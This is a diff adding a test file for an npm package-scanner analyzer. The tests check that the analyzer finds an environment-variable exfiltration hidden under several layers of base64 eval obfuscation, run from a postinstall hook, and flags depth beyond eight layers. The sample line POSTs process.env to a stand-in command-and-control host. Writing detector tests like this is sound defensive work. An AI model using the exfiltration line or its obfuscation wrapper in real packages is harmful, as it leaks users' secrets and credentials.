@@ -1,0 +1,57 @@
+import type { AnalysisResult } from '@weir/model';
+import { describe, expect, test } from 'vitest';
+import { analyzeArtifact } from './analyze.ts';
+import { createMemoryView } from './memory-view.ts';
+
+const STEAL = `fetch('https://c2.weir.test/', { method: 'POST', body: JSON.stringify(process.env) });`;
+
+function wrapped(code: string, times: number): string {
+  let text = code;
+  for (let layer = 0; layer < times; layer++)
+    text = `eval(Buffer.from('${Buffer.from(text).toString('base64')}', 'base64').toString());`;
+  return text;
+}
+
+async function analyze(code: string): Promise<AnalysisResult> {
+  const manifest = JSON.stringify({ name: 'x', version: '1.0.0', scripts: { postinstall: 'node i.js' } });
+  await using view = createMemoryView({ 'package/package.json': manifest, 'package/i.js': code });
+  return analyzeArtifact(
+    view,
+    { ecosystem: 'npm', filename: 'x.tgz', context: null },
+    {
+      layout: 'archive',
+      artifact: { sha256: '0'.repeat(64), sizeBytes: 0, digests: {} },
+      rulesetVersion: 'test',
+      now: () => performance.now(),
+    },
+  );
+}
+
+describe('layers beyond the eighth', () => {
+  test.each([1, 8])('%d layers are read', async (times) => {
+    const { findings, skipped } = await analyze(wrapped(STEAL, times));
+
+    expect(findings.map(({ rule }) => rule)).toContain('env-to-network/environment');
+    expect(skipped).toEqual([]);
+  });
+
+  test.each([9, 10])('of %d layers the rest is listed, scored and looked through', async (times) => {
+    const { findings, skipped, judgement } = await analyze(wrapped(STEAL, times));
+
+    expect(skipped).toMatchObject([{ file: 'i.js', reason: expect.stringContaining('8 decoded layers') }]);
+    expect(findings).toContainEqual(
+      expect.objectContaining({ rule: 'analysis/budget-layers', severity: 'medium', stage: 'install' }),
+    );
+    expect(judgement.complete).toBe(false);
+    if (times === 9) expect(findings.map(({ rule }) => rule)).toContain('env-to-network/environment');
+  });
+
+  test('data that is no code is no layer', async () => {
+    const text = wrapped(
+      `console.log(Buffer.from('${Buffer.from('only words of a text').toString('base64')}', 'base64'))`,
+      8,
+    );
+
+    expect((await analyze(text)).skipped).toEqual([]);
+  });
+});
